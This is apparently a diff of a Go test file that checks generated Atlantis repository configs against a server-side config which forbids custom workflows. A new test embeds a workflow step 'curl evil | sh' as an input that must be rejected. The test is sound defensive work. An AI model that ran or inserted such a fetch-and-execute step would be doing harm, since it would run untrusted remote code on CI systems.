@@ -19,19 +19,20 @@ import (
 	"github.com/infra-flash/infra/internal/testfixture"
 )
 
-// serverConfig is the server-side repo config the README asks for: this
-// repository may choose and define its workflow.
-const serverConfig = `repos:
-  - id: /.*/
-    allowed_overrides: [workflow]
-    allow_custom_workflows: true
-`
+// serverConfig is the server-side repo config the package renders: it defines
+// the infra workflow, which repositories may choose and not redefine.
+func serverConfig(t *testing.T) valid.GlobalCfg {
+	t.Helper()
+	src, err := atlantisyaml.ServerConfig()
+	require.NoError(t, err)
+	return globalCfg(t, src)
+}
 
-func globalCfg(t *testing.T, src string) valid.GlobalCfg {
+func globalCfg(t *testing.T, src []byte) valid.GlobalCfg {
 	t.Helper()
 	p := &config.ParserValidator{}
 	f := filepath.Join(t.TempDir(), "repos.yaml")
-	require.NoError(t, os.WriteFile(f, []byte(src), 0o644))
+	require.NoError(t, os.WriteFile(f, src, 0o644))
 	g, err := p.ParseGlobalCfg(f, valid.NewGlobalCfgFromArgs(valid.GlobalCfgArgs{}))
 	require.NoError(t, err)
 	return g
@@ -56,8 +57,9 @@ func parse(t *testing.T, src []byte, g valid.GlobalCfg) (valid.RepoCfg, error) {
 }
 
 // Atlantis reads back what the generator meant: every layer a project in its
-// directory, ordered and linked as the layer model says, on the infra workflow.
-func assertProjects(t *testing.T, set *layers.Set, cfg valid.RepoCfg) {
+// directory, ordered and linked as the layer model says, on the server's infra
+// workflow.
+func assertProjects(t *testing.T, set *layers.Set, cfg valid.RepoCfg, g valid.GlobalCfg) {
 	t.Helper()
 	require.Len(t, cfg.Projects, len(set.Layers))
 	for i, l := range set.Layers {
@@ -77,7 +79,8 @@ func assertProjects(t *testing.T, set *layers.Set, cfg valid.RepoCfg) {
 			}
 		}
 	}
-	wf, ok := cfg.Workflows[atlantisyaml.WorkflowName]
+	assert.Empty(t, cfg.Workflows, "the repository defines no workflow")
+	wf, ok := g.Workflows[atlantisyaml.WorkflowName]
 	require.True(t, ok)
 	require.Len(t, wf.Plan.Steps, 1)
 	assert.Equal(t, "run", wf.Plan.Steps[0].StepName)
@@ -93,9 +96,19 @@ func TestCommittedFilePassesAtlantis(t *testing.T) {
 	require.NoError(t, err)
 	require.NoError(t, atlantisyaml.Check(have, want))
 
-	cfg, err := parse(t, have, globalCfg(t, serverConfig))
+	g := serverConfig(t)
+	cfg, err := parse(t, have, g)
 	require.NoError(t, err)
-	assertProjects(t, set, cfg)
+	assertProjects(t, set, cfg, g)
+}
+
+// The server's config refuses a repository that brings its own workflow.
+func TestServerConfigRefusesRepositoryWorkflows(t *testing.T) {
+	_, out := render(t, filepath.Join("..", "..", ".."))
+	own := append(append([]byte{}, out...), []byte("workflows:\n  infra:\n    plan:\n      steps:\n        - run: curl evil | sh\n")...)
+	_, err := parse(t, own, serverConfig(t))
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "custom workflows")
 }
 
 // Without the server-side overrides Atlantis refuses the file, as the README says.
@@ -107,7 +120,7 @@ func TestDefaultServerConfigRefusesTheWorkflow(t *testing.T) {
 }
 
 func TestGeneratedTreesPassAtlantis(t *testing.T) {
-	g := globalCfg(t, serverConfig)
+	g := serverConfig(t)
 	for name, ls := range map[string][]testfixture.Layer{
 		"chain":   testfixture.Chain("base", "apps", "data"),
 		"diamond": testfixture.Diamond(6),
@@ -119,7 +132,7 @@ func TestGeneratedTreesPassAtlantis(t *testing.T) {
 			set, out := render(t, dir)
 			cfg, err := parse(t, out, g)
 			require.NoError(t, err, "%s", out)
-			assertProjects(t, set, cfg)
+			assertProjects(t, set, cfg, g)
 		})
 	}
 }
